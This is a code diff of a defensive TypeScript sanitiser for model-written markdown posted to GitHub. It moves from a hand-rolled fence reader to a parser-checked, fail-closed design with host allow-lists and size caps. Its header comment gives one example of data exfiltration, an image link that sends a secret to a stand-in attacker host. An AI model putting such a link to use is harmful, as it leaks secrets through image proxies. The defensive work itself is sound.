@@ -3,96 +3,145 @@
 // moment GitHub's image proxy fetches it (`![x](https://evil.example/?q=SECRET)`), a link that looks
 // like ours, raw HTML, a mention that pings a whole team.
 //
-// No markdown parser is installed (micromark with its GFM extension would be the one to add: exact to
-// CommonMark and GFM, with source positions), so this is a careful reader of its own, built to fail
-// closed: where it is unsure how GitHub reads something, it neutralises it (a URL shown as code, a "<"
-// escaped) rather than leave it live. Block level, only fenced code blocks are recognised, and only in
-// a form whose extent is certain: an opening fence indented up to three spaces is rewritten to start
-// at column 0, where it is a top-level fence whatever came before (it cannot belong to a list item or
-// be lazily continued), and it runs to the matching closing fence exactly as CommonMark says.
-// Everything else — indented code, code in list items and quotes — is treated as prose, which costs
-// looks (an escaped "<" inside such code shows as "&lt;"), never safety. An unclosed fence is closed
-// at the end, so the result can be followed by other markdown (after a blank line) without swallowing
-// it. Lines that may be GFM table rows are read cell by cell, as GitHub splits them before anything else.
-import { cleanText, longestBacktickRun } from "./sanitizer/characters";
-import { createHostPolicy } from "./sanitizer/hosts";
+// Three steps, each failing closed:
+// 1. The block structure comes from the parser (src/markdown/): which lines are code — fenced or
+//    indented, inside quotes and list items, closed exactly where CommonMark closes them (a tab before
+//    a closing fence included) — and which are table rows. Code lines are kept as they are; every other
+//    line is rewritten by the inline reader (sanitizer/inline.ts), which keeps emphasis, code spans and
+//    allowed links and neutralises HTML, other links and images, autolinks and mentions. A fence's info
+//    string keeps its language word only (diagram and math languages become "text").
+// 2. The result is parsed again and every live construct in it is checked against the same host policy
+//    (src/markdown/live.ts). What the parser still finds live (where the line reader's reading and the
+//    parser's differ) is repaired in place — its "<" or "[" escaped, its URL made code, its "@" broken —
+//    and checked again. Only output in which the parser finds nothing live is returned, with a fence it
+//    leaves open at the top level closed, so what follows the text cannot be swallowed by it.
+// The parser is loaded once, when a run's report is about to be written (loadMarkdownParser); should a
+// caller render before that, every line is escaped as plain text.
+// 3. Should repairs not settle it, every line is escaped as plain text (nothing can form), checked the
+//    same way; and should even that not pass, the text is shown as one code block.
+//
+// Size: the output is at most OUTPUT_FACTOR times the input plus a constant (a neutralised image of a
+// few characters is the worst case); the test suite checks it on hostile input.
+import { blockLayout, type LineLayout } from "../markdown/layout";
+import { inspectMarkdown, type LiveConstruct } from "../markdown/live";
+import { markdownParserLoaded } from "../markdown/parse";
+import { clip } from "./caps";
+import { codeBlock, plainText } from "./markdown";
+import { cleanText, MENTION_BREAK } from "./sanitizer/characters";
+import { codeSpan } from "./sanitizer/code-span";
+import { createHostPolicy, type HostPolicy, isKeepableDestination } from "./sanitizer/hosts";
 import { sanitizeLine } from "./sanitizer/inline";
 
 export interface SanitizeOptions {
   /**
    * Where links and images may point: host names (`github.com`), `*.example.com` for subdomains, or
-   * URL prefixes (`https://github.com/owner/repo`). Relative links (which resolve on GitHub) always may.
+   * URL prefixes (`https://github.com/owner/repo`). Relative links resolve on GitHub and follow its rules.
    */
   allowedHosts: readonly string[];
+  /**
+   * Hosts that are GitHub sites (default `github.com`): there only repositories' own pages (code,
+   * issues, pull requests, commits, runs, releases…) and uploaded attachments may be linked, never
+   * account pages such as `/login`, `/settings` or an app's installation page.
+   */
+  githubHosts?: readonly string[];
 }
 
-const FENCE_OPEN = /^ {0,3}(`{3,}|~{3,})(.*)$/;
-const FENCE_CLOSE = /^ {0,3}(`{3,}|~{3,})[ \t]*$/;
+/**
+ * Longer text is clipped before anything is done with it: no surface shows more of the model's words
+ * (a summary is rarely a tenth of this), and the parser's time grows faster than the text on some
+ * hostile input (micromark's text merging and GFM's footnote calls are quadratic in the brackets and
+ * constructs of one paragraph: about 0.4 s for 20,000 characters of the worst we know, 1.9 s for 40,000).
+ */
+export const MAX_INPUT = 20_000;
+
+/** Sanitised output is at most this many times as long as its input, plus OUTPUT_SLACK characters. */
+export const OUTPUT_FACTOR = 8;
+export const OUTPUT_SLACK = 64;
+
 /** Fence languages GitHub renders as something other than code (diagrams, maps, models, math). */
 const RENDERED_LANGUAGES = new Set(["mermaid", "geojson", "topojson", "stl", "math"]);
 
 export function sanitizeModelMarkdown(text: string, options: SanitizeOptions): string {
-  const policy = createHostPolicy(options.allowedHosts);
-  const clean = cleanText(text);
-  const spanFence = longestBacktickRun(clean) + 1;
-  const lines = clean.split("\n");
-  const code = codeLines(lines);
-  const tableRows = tableCapableLines(lines, code);
+  const policy = createHostPolicy(options.allowedHosts, options.githubHosts);
+  const clean = cleanText(clip(text, MAX_INPUT));
+  // Without the parser nothing can be kept as markdown with certainty: everything is escaped.
+  if (!markdownParserLoaded()) return renderEscaped(clean);
+  const keep = (raw: string) => isKeepableDestination(raw, policy);
+  let out = renderByBlocks(clean, policy);
+  for (let round = 0; round <= MAX_REPAIR_ROUNDS; round++) {
+    const { live, unclosedFence } = inspectMarkdown(out, keep);
+    // A fence left open is closed, so what follows the text cannot be swallowed by it (a closing
+    // fence ends code; it makes nothing live).
+    if (live.length === 0) return unclosedFence === undefined ? out : `${out}\n${unclosedFence}`;
+    if (round < MAX_REPAIR_ROUNDS) out = repair(out, live);
+  }
+  const escaped = renderEscaped(clean);
+  return inspectMarkdown(escaped, keep).live.length === 0 ? escaped : codeBlock(clean);
+}
+
+/** Rounds of repair before the sanitiser gives up on keeping the text's markdown. */
+const MAX_REPAIR_ROUNDS = 3;
+
+/** Each live construct made inert where it starts; the rest of the text is left as it is. */
+function repair(text: string, live: readonly LiveConstruct[]): string {
+  const edits = new Map<number, { end: number; text: string }>();
+  for (const found of live) {
+    if (edits.has(found.at)) continue;
+    if (found.kind === "html") edits.set(found.at, { end: found.at + 1, text: "&lt;" });
+    else if (found.kind === "link") edits.set(found.at, { end: found.at, text: "\\" });
+    else if (found.kind === "mention") edits.set(found.at, { end: found.at + 1, text: `@${MENTION_BREAK}` });
+    else {
+      // Kept apart from a backtick or backslash just before, which would change how the span pairs.
+      const gap = /[`\\]/.test(text[found.at - 1] ?? "") ? " " : "";
+      edits.set(found.at, { end: found.end, text: `${gap}${codeSpan(text.slice(found.at, found.end))} ` });
+    }
+  }
+  const out: string[] = [];
+  let cursor = 0;
+  for (const at of [...edits.keys()].sort((a, b) => a - b)) {
+    const edit = edits.get(at);
+    if (edit === undefined || at < cursor) continue;
+    out.push(text.slice(cursor, at), edit.text);
+    cursor = edit.end;
+  }
+  out.push(text.slice(cursor));
+  return out.join("");
+}
+
+function renderByBlocks(text: string, policy: HostPolicy): string {
+  const layout = blockLayout(text);
+  const lines = text.split("\n");
+  const tables = tableCapableLines(lines, layout.lines);
   const out = lines.map((line, i) => {
-    const kind = code[i];
-    if (kind === "open") return rewriteOpeningFence(line);
-    if (kind === "code") return line;
-    return sanitizeLine(line, { policy, spanFence, tableRow: tableRows[i] === true });
+    const kind = layout.lines[i] ?? { kind: "prose", table: false };
+    if (kind.kind === "code") return line;
+    if (kind.kind === "fence") return rewriteOpeningFence(line, kind);
+    return sanitizeLine(line, { policy, tableRow: kind.table || tables[i] === true });
   });
-  const unclosed = unclosedFence(lines, code);
-  if (unclosed !== undefined) out.push(unclosed);
   return out.join("\n");
 }
 
-type LineKind = "open" | "code" | "text";
-
-/** Which lines open a fenced code block, which are inside one (closing fence included), which are prose. */
-function codeLines(lines: readonly string[]): LineKind[] {
-  let fence: string | undefined;
-  return lines.map((line) => {
-    if (fence === undefined) {
-      const open = FENCE_OPEN.exec(line);
-      const marker = open?.[1];
-      if (marker === undefined || (marker.startsWith("`") && (open?.[2] ?? "").includes("`"))) return "text";
-      fence = marker;
-      return "open";
-    }
-    const close = FENCE_CLOSE.exec(line)?.[1];
-    if (close !== undefined && close[0] === fence[0] && close.length >= fence.length) fence = undefined;
-    return "code";
-  });
-}
-
-function unclosedFence(lines: readonly string[], code: readonly LineKind[]): string | undefined {
-  let fence: string | undefined;
-  lines.forEach((line, i) => {
-    if (code[i] === "open") fence = FENCE_OPEN.exec(line)?.[1];
-    else if (code[i] === "code" && fence !== undefined) {
-      const close = FENCE_CLOSE.exec(line)?.[1];
-      if (close !== undefined && close[0] === fence[0] && close.length >= fence.length) fence = undefined;
-    }
-  });
-  return fence;
+/** The fallback: every line as plain text (all punctuation escaped), so no construct can form. */
+function renderEscaped(text: string): string {
+  return text
+    .split("\n")
+    .map((line) => plainText(line))
+    .join("\n");
 }
 
 /** A GFM delimiter row ("| --- | :-: |", "---"), after any quote markers and indentation. */
 const DELIMITER_ROW = /^\|?[ \t]*:?-+:?[ \t]*(?:\|[ \t]*:?-+:?[ \t]*)*\|?[ \t]*$/;
 
 /**
- * Lines that may be table rows: every prose line of a paragraph-like run (lines between blank lines
- * and code) that contains something shaped like a delimiter row. A superset of GitHub's tables, which
- * need a delimiter row right under their header and end at a blank line.
+ * Lines that may be table rows though the parser found no table: every prose line of a run (lines
+ * between blank lines and code) with something shaped like a delimiter row. GitHub's table extension
+ * and ours could disagree on an odd table; splitting at pipes where there is no table only costs looks.
  */
-function tableCapableLines(lines: readonly string[], code: readonly LineKind[]): boolean[] {
+function tableCapableLines(lines: readonly string[], layout: readonly LineLayout[]): boolean[] {
   const flags = lines.map(() => false);
   let start = 0;
   for (let i = 0; i <= lines.length; i++) {
-    const ends = i === lines.length || code[i] !== "text" || (lines[i] ?? "").trim() === "";
+    const ends = i === lines.length || layout[i]?.kind !== "prose" || (lines[i] ?? "").trim() === "";
     if (!ends) continue;
     const run = lines.slice(start, i);
     if (run.some((line) => DELIMITER_ROW.test(line.replace(/^[ \t>]*/, ""))))
@@ -102,14 +151,17 @@ function tableCapableLines(lines: readonly string[], code: readonly LineKind[]):
   return flags;
 }
 
-function rewriteOpeningFence(line: string): string {
-  const open = FENCE_OPEN.exec(line);
-  return (open?.[1] ?? "") + infoString(open?.[2] ?? "");
+/** The line up to the fence's backticks or tildes as it is, then the language word only. */
+function rewriteOpeningFence(line: string, layout: LineLayout): string {
+  const at = layout.infoFrom ?? line.length;
+  return line.slice(0, at) + infoString(line.slice(at));
 }
 
 /** The language word only; languages GitHub would render (mermaid, math, maps…) become plain text. */
 function infoString(info: string): string {
   const word = /^\s*([A-Za-z0-9_+#.-]{1,40})/.exec(info)?.[1];
   if (word === undefined) return "";
-  return RENDERED_LANGUAGES.has(word.toLowerCase()) ? "text" : word;
+  // By its letters: "mermaid-" or "math2" may be read as the language they start with.
+  const letters = /^[a-z]*/.exec(word.toLowerCase())?.[0] ?? "";
+  return RENDERED_LANGUAGES.has(letters) ? "text" : word;
 }
